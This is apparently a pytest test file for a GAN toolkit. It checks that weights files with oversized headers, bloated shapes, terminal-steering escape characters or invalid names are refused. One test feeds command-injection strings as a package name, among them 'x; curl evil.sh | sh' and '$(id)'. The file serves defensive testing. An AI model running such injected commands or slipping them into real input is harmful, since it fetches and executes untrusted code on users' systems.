"""Weights files that ask for too much or say too much: refused by their header alone."""

from __future__ import annotations

import json
import struct
import time
from collections.abc import Callable, Mapping
from pathlib import Path
from subprocess import CompletedProcess
from typing import Any

import pytest
from fake_hub import FakeHub
from mutants import joined, parts

import gan_toolkit
from gan_toolkit import bundle
from gan_toolkit.errors import BundleError, UsageError
from gantk_zoo import shipped
from gantk_zoo.pack import Packing, pack

Gantk = Callable[..., CompletedProcess[str]]
Json = dict[str, Any]
"""Any: JSON."""
STEERING = "x\x1b[31m\x07\x9b2J\r\u202e"


def retold(weights: Path, out: Path, change: Callable[[Json], object]) -> Path:
    """Write weights whose description was changed, and return them."""
    header, body = parts(weights.read_bytes())
    about = json.loads(header["__metadata__"][bundle.KEY])
    change(about)
    header["__metadata__"][bundle.KEY] = json.dumps(about)
    out.write_bytes(joined(header, body))
    return out


@pytest.fixture
def unread(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let every look behind the header fail."""

    def never(*_: object) -> None:
        raise AssertionError("more than the header was read")

    monkeypatch.setattr(bundle, "_tensors", never)
    monkeypatch.setattr(bundle, "_digest", never)


@pytest.mark.parametrize("claimed", [bundle.MAX_HEADER + 1, 2**40, 2**63, 2**64 - 1])
def test_a_header_that_claims_too_much_is_refused(
    unread: None, tmp_path: Path, claimed: int
) -> None:
    weights = tmp_path / "x.safetensors"
    with weights.open("wb") as file:
        file.write(struct.pack("<Q", claimed) + b"{")
        file.truncate(2 * bundle.MAX_HEADER)
    with pytest.raises(BundleError, match=f"at most {bundle.MAX_HEADER:,} are read"):
        gan_toolkit.load(weights)


def test_a_header_of_a_million_tensors_is_refused_by_its_length(
    unread: None, run: Path, tmp_path: Path
) -> None:
    header, body = parts((run / bundle.RUN_WEIGHTS).read_bytes())
    empty = {"dtype": "U8", "shape": [0], "data_offsets": [len(body), len(body)]}
    text = json.dumps(header)[:-1].encode()
    each = json.dumps(empty).encode()
    text += b"".join(b', "t%d": %s' % (place, each) for place in range(120_000)) + b"}"
    weights = tmp_path / "x.safetensors"
    weights.write_bytes(struct.pack("<Q", len(text)) + text + body)
    with pytest.raises(BundleError, match="are read"):
        gan_toolkit.load(weights)


def test_tensors_that_no_network_asked_for_are_refused_before_they_are_read(
    unread: None, run: Path, tmp_path: Path
) -> None:
    header, body = parts((run / bundle.RUN_WEIGHTS).read_bytes())
    extra = 3 * 2**30
    offsets = [len(body), len(body) + extra]
    header["junk"] = {"dtype": "U8", "shape": [extra], "data_offsets": offsets}
    weights = tmp_path / "x.safetensors"
    weights.write_bytes(joined(header, body))
    with weights.open("r+b") as file:
        file.truncate(weights.stat().st_size + extra)  # a hole: it costs no disk
    with pytest.raises(BundleError, match="unknown junk"):
        gan_toolkit.load(weights)


@pytest.mark.parametrize("shape", [[4, 1024, 1025], [1, 8192, 8192], [2**40], [10**30, 10**30]])
def test_a_sample_that_is_too_large_is_refused(
    unread: None, run: Path, tmp_path: Path, shape: list[int]
) -> None:
    def change(about: Json) -> None:
        about["data"]["fields"]["sample"]["shape"] = shape

    weights = retold(run / bundle.RUN_WEIGHTS, tmp_path / "x.safetensors", change)
    with pytest.raises(BundleError, match="no sample can have the shape"):
        gan_toolkit.load(weights)


@pytest.mark.parametrize("option", ["hidden", "discriminator_hidden"])
def test_a_network_of_more_layers_than_anybody_trains_is_refused_at_once(
    unread: None, points_run: Path, tmp_path: Path, option: str
) -> None:
    def change(about: Json) -> None:
        about["options"][option] = [1] * 65

    weights = retold(points_run / bundle.RUN_WEIGHTS, tmp_path / "x.safetensors", change)
    begun = time.monotonic()
    with pytest.raises(BundleError, match=f"options that 'mlp' refuses: .*{option}"):
        gan_toolkit.load(weights)
    assert time.monotonic() - begun < 5


@pytest.mark.parametrize(
    "distribution",
    ["x; curl evil.sh | sh", "x`id`", "x$(id)", "x\n", "x\x1b[31m", "-r evil.txt", "x && y", ""],
    ids=repr,
)
def test_a_distribution_that_is_no_name_is_never_recommended(
    run: Path, tmp_path: Path, distribution: str
) -> None:
    def change(about: Json) -> None:
        about.update(architecture="nope", distribution=distribution)

    weights = retold(run / bundle.RUN_WEIGHTS, tmp_path / "x.safetensors", change)
    with pytest.raises(BundleError, match="is damaged") as caught:
        gan_toolkit.load(weights)
    assert "pip install" not in str(caught.value)


def steers(text: str) -> bool:
    """Return whether a text holds what a terminal obeys."""
    return not all(each.isprintable() or each == "\n" for each in text)


def names_data(about: Json) -> None:
    about["data"]["name"] = about["data"]["licence"] = about["data"]["source"] = STEERING


def names_classes(about: Json) -> None:
    about["data"]["fields"]["label"]["classes"][0] = STEERING


def names_architecture(about: Json) -> None:
    about["architecture"] = STEERING


def names_option(about: Json) -> None:
    about["options"][STEERING] = STEERING


def names_format(about: Json) -> None:
    about["format"] = STEERING


@pytest.mark.parametrize(
    "change", [names_data, names_classes, names_architecture, names_option, names_format]
)
@pytest.mark.parametrize("command", [("zoo", "info"), ("sample", "-n", 1, "-o", "x.png")])
def test_words_of_a_stranger_s_file_cannot_steer_a_terminal(
    run: Path,
    tmp_path: Path,
    gantk: Gantk,
    change: Callable[[Json], object],
    command: tuple[object, ...],
) -> None:
    weights = retold(run / bundle.RUN_WEIGHTS, tmp_path / "x.safetensors", change)
    done = gantk(*command, weights)
    assert done.returncode in {0, 1}
    assert done.stdout + done.stderr
    assert not steers(done.stdout)
    assert not steers(done.stderr)


def test_words_of_a_stranger_s_record_cannot_steer_a_terminal(
    packed: Path, tmp_path: Path, gantk: Gantk
) -> None:
    def hostile(value: Any) -> Any:  # Any: JSON
        if isinstance(value, Mapping):
            return {key: hostile(each) for key, each in value.items()}
        if isinstance(value, list):
            return [hostile(each) for each in value]
        return STEERING if value in {"mit", "digits"} or value == value_name else value

    for file in packed.iterdir():
        (tmp_path / file.name).write_bytes(file.read_bytes())
    values = json.loads((packed / "metrics.json").read_text(encoding="utf-8"))
    value_name = values["scores"][0]["name"]
    (tmp_path / "metrics.json").write_text(json.dumps(hostile(values)), encoding="utf-8")
    done = gantk("zoo", "info", tmp_path)
    assert done.returncode == 0, done.stderr
    assert "x�[31m" in done.stdout
    assert not steers(done.stdout)


@pytest.mark.parametrize(
    "reference", ["a\0b", "a" * 300, "o/d@" + "y" * 300, "o/d@a\0b", "\n", "…"]
)
@pytest.mark.parametrize("command", ["sample", "export", "zoo info", "zoo card", "zoo verify"])
def test_a_name_that_no_file_can_have_is_one_message(
    hub: FakeHub, gantk: Gantk, command: str, reference: str
) -> None:
    done = gantk(*command.split(), reference, *(["-o", "out"] if command == "export" else []))
    assert done.returncode == 1
    assert "Errno" not in done.stderr
    assert not steers(done.stderr)
    with pytest.raises(BundleError):
        gan_toolkit.load(reference)


def test_a_near_miss_of_a_shipped_name_suggests_it() -> None:
    name = shipped.names()[0]
    for miss in (name[:-1], f"{name}s", name.upper()):
        with pytest.raises(BundleError, match=f"Did you mean .*'{name}'"):
            gan_toolkit.load(miss)


def test_a_path_that_a_model_names_is_not_read(run: Path, tmp_path: Path) -> None:
    (tmp_path / "mine").mkdir()

    def change(about: Json) -> None:
        about["recipe"]["data"] = {"name": "folder", "path": str(tmp_path / "mine")}

    weights = retold(run / bundle.RUN_WEIGHTS, tmp_path / "x.safetensors", change)
    with pytest.raises(UsageError, match="--data PATH"):
        gan_toolkit.evaluate(weights, n=4)
    with pytest.raises(UsageError, match=r"data\.path: this is required"):
        gan_toolkit.evaluate(weights, "folder", n=4)
    with pytest.raises(UsageError, match="--data PATH"):
        pack(weights, tmp_path / "out", Packing("owner/x", licence="mit"))


def test_a_sample_that_is_bounded_on_one_side_is_refused(run: Path, tmp_path: Path) -> None:
    def change(about: Json) -> None:
        about["data"]["fields"]["sample"]["high"] = None

    weights = retold(run / bundle.RUN_WEIGHTS, tmp_path / "x.safetensors", change)
    with pytest.raises(BundleError, match="is damaged"):
        gan_toolkit.load(weights)
